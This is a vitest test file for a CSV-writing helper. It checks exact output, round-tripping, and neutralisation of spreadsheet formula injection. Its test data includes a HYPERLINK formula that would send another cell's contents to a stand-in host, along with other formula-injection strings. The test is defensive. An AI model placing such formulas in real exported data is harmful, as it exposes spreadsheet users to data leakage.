import { stringify } from "csv-stringify/sync";
import { expect, test } from "vitest";
import { parseCsv } from "~/test/zip";
import { csvText } from "./csv";

const rows = [
  ["plain", null, "", "a,b", 'say "hi"', "two\nlines", "cr\r\nlf", '{"k":["x","y"]}'],
  ["é ü 😀", " spaced ", ",", '"', "\n"],
];

test("writes exactly what csv-stringify writes, and parses back to the same cells", () => {
  expect(csvText(rows)).toBe(stringify(rows));
  expect(parseCsv(csvText(rows))).toEqual(rows.map((r) => r.map((c) => c ?? "")));
});

test("a cell a spreadsheet would run as a formula is written as text; numbers and JSON stay exact", () => {
  const risky = ['=HYPERLINK("https://x/?"&A2,"open")', "+1+1", "@SUM(A1)", "-cmd", "\tx"];
  const kept = ["-3", "+4.5", "12", '{"note":"=1+1"}', "a=b"];
  const parsed = parseCsv(csvText([risky, kept]));
  expect(parsed[0]).toEqual(risky.map((cell) => `'${cell}`));
  expect(parsed[1]).toEqual(kept);
});
